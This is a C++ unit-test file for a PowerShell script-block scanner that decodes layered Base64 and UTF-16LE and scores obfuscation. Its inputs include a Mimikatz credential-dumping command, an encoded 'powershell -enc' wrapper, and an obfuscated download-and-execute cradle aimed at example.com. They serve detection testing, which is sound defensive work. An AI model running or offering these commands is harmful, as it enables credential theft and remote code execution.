#include "engine/src/analyzer.h"

#include <gtest/gtest.h>

#include <optional>
#include <string>
#include <vector>

#include "decoders/obfuscation_score.h"
#include "tests/engine/test_rules.h"

namespace sbscan {
namespace {

struct Kept {
  std::string rule;
  std::vector<AlertMatch> matches;
  std::vector<std::string> excerpts;
  std::vector<DecodeStep> path;
  std::optional<ObfuscationFinding> obfuscation;
};

std::string Base64(std::string_view in) {
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    uint32_t v = (uint8_t)in[i] << 16 | (uint8_t)in[i + 1] << 8 | (uint8_t)in[i + 2];
    for (int s = 18; s >= 0; s -= 6) out += kAlphabet[(v >> s) & 63];
  }
  if (i + 1 == in.size()) {
    uint32_t v = (uint8_t)in[i] << 16;
    out += kAlphabet[v >> 18];
    out += kAlphabet[(v >> 12) & 63];
    out += "==";
  } else if (i + 2 == in.size()) {
    uint32_t v = (uint8_t)in[i] << 16 | (uint8_t)in[i + 1] << 8;
    out += kAlphabet[v >> 18];
    out += kAlphabet[(v >> 12) & 63];
    out += kAlphabet[(v >> 6) & 63];
    out += '=';
  }
  return out;
}

std::string Utf16le(std::string_view ascii) {
  std::string out;
  for (char c : ascii) {
    out += c;
    out += '\0';
  }
  return out;
}

class AnalyzerTest : public ::testing::Test {
 protected:
  // Rule alerts only, unless a test turns the obfuscation score on.
  static AnalysisOptions RulesOnly() {
    AnalysisOptions o;
    o.obfuscation_score = false;
    return o;
  }

  std::vector<Kept> Analyze(std::string_view text, int level = 5, std::string_view path = "",
                            AnalysisOptions options = RulesOnly()) {
    Analyzer analyzer(rules_, options);
    std::vector<FragmentSpan> spans = {{1, 0, static_cast<uint32_t>(text.size()), 7}};
    ScriptBlock block;
    block.host = "H";
    block.script_block_id = "id";
    block.text = text;
    block.level = level;
    block.path = path;
    block.fragments_total = 1;
    block.fragments = spans;
    std::vector<Kept> out;
    analyzer.Analyze(block, [&](const Alert& a) {
      Kept k;
      k.rule = a.rule.id;
      k.matches.assign(a.matches.begin(), a.matches.end());
      for (const auto& m : a.matches) k.excerpts.emplace_back(m.excerpt);
      k.path.assign(a.decode_path.begin(), a.decode_path.end());
      if (a.obfuscation != nullptr) k.obfuscation = *a.obfuscation;
      out.push_back(k);
    });
    stats_ = analyzer.stats();
    return out;
  }

  std::shared_ptr<const signatures::RuleSet> rules_ = testing::CompileYaml(testing::kTestRules);
  AnalysisStats stats_;
};

TEST_F(AnalyzerTest, OneAlertPerRuleWithEveryMatch) {
  auto alerts = Analyze("Invoke-Mimikatz; invoke-mimikatz -DumpCreds");
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].rule, "t.mimikatz");
  ASSERT_EQ(alerts[0].matches.size(), 2u);
  EXPECT_EQ(alerts[0].matches[1].begin, 17u);
  EXPECT_EQ(alerts[0].matches[1].end, 32u);
  EXPECT_EQ(alerts[0].matches[1].fragment, 1);
  EXPECT_EQ(alerts[0].matches[0].field, "text");
  EXPECT_TRUE(alerts[0].path.empty());
  EXPECT_EQ(stats_.alerts, 1u);
}

TEST_F(AnalyzerTest, LevelAndPathPatterns) {
  auto alerts = Analyze("Get-Date", 3, "C:\\Windows\\Temp\\x.ps1");
  ASSERT_EQ(alerts.size(), 2u);
  EXPECT_EQ(alerts[0].rule, "t.warning");
  EXPECT_EQ(alerts[0].matches[0].field, "level");
  EXPECT_EQ(alerts[1].rule, "t.temp");
  EXPECT_EQ(alerts[1].matches[0].field, "path");
  EXPECT_EQ(alerts[1].excerpts[0], "C:\\Windows\\Temp\\x.ps1");
}

TEST_F(AnalyzerTest, DecodedLayersAreScannedWithTheirPath) {
  std::string inner = Base64("Invoke-Mimikatz -DumpCreds");
  std::string outer =
      Base64(Utf16le("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + inner +
                     "'))"));
  std::string text = "powershell -nop -enc " + outer;
  auto alerts = Analyze(text);
  ASSERT_EQ(alerts.size(), 1u);
  ASSERT_EQ(alerts[0].matches.size(), 1u);
  EXPECT_EQ(alerts[0].matches[0].layer, 2);
  EXPECT_EQ(alerts[0].excerpts[0], "Invoke-Mimikatz -DumpCreds");
  ASSERT_EQ(alerts[0].path.size(), 2u);
  EXPECT_EQ(alerts[0].path[0].layer, 1);
  EXPECT_EQ(alerts[0].path[0].encoding, "utf16le");
  EXPECT_EQ(alerts[0].path[0].parent_begin, 21u);
  EXPECT_EQ(alerts[0].path[0].parent_end, text.size());
  EXPECT_EQ(alerts[0].path[1].layer, 2);
  EXPECT_EQ(alerts[0].path[1].parent, 1);
  EXPECT_EQ(alerts[0].path[1].encoding, "utf8");
  EXPECT_GE(stats_.layers_decoded, 2u);

  AnalysisOptions no_decode = RulesOnly();
  no_decode.decode.enabled = false;
  EXPECT_TRUE(Analyze(text, 5, "", no_decode).empty());
  AnalysisOptions shallow = RulesOnly();
  shallow.decode.max_depth = 1;
  EXPECT_TRUE(Analyze(text, 5, "", shallow).empty());
  EXPECT_EQ(stats_.decode_depth_limit, 1u);
}

TEST_F(AnalyzerTest, ExcerptsNeverCutUtf8) {
  std::string text = std::string(39, 'a') + "\xC3\xBC" "Invoke-Mimikatz" "\xC3\x9F" + "b";
  AnalysisOptions options = RulesOnly();
  options.excerpt_context = 1;
  auto alerts = Analyze(text, 5, "", options);
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].excerpts[0], "\xC3\xBC" "Invoke-Mimikatz" "\xC3\x9F");
}

TEST_F(AnalyzerTest, ObfuscationScoreRaisesItsOwnAlert) {
  // Invoke-Obfuscation TOKEN/STRING style: ticks, concatenation, -f reordering.
  std::string text =
      "&(\"{1}{0}\"-f'X','IE') ((('I'+'nv'+'oke-')+('Web'+'Req')+'ue'+'st') + ' h'+'tt'+'p:'+"
      "'//'+'ex'+'am'+'ple'+'.c'+'om') ; ${`E`N`V:`C`O`m`S`p`E`c}[4,15,25]-JoIn'' ;"
      "(\"{5}{2}{0}{1}{3}{4}\" -f 'ow','nl','.D','oadS','tring','(New-Object Net.WebClient)')";
  AnalysisOptions on;
  auto alerts = Analyze(text, 5, "", on);
  ASSERT_FALSE(alerts.empty());
  EXPECT_EQ(alerts.back().rule, "sbscan.obfuscation.score");
  EXPECT_GE(stats_.obfuscated, 1u);
  // The block was scored without its entropy; the finding still reports it, exactly.
  ASSERT_TRUE(alerts.back().obfuscation.has_value());
  const decoders::ObfuscationFeatures full = decoders::ComputeObfuscationFeatures(text);
  EXPECT_GT(full.entropy, 3.0);
  EXPECT_EQ(alerts.back().obfuscation->entropy, full.entropy);
  EXPECT_EQ(alerts.back().obfuscation->score, decoders::Score(full));
  EXPECT_TRUE(Analyze("Get-ChildItem C:\\ | Where-Object Length -gt 0 | Sort-Object Name", 5, "",
                      on)
                  .empty());
}

TEST_F(AnalyzerTest, NothingOnBenignText) {
  EXPECT_TRUE(Analyze("Get-ChildItem C:\\ | Where-Object Length -gt 0").empty());
  EXPECT_EQ(stats_.blocks, 1u);
}

}  // namespace
}  // namespace sbscan
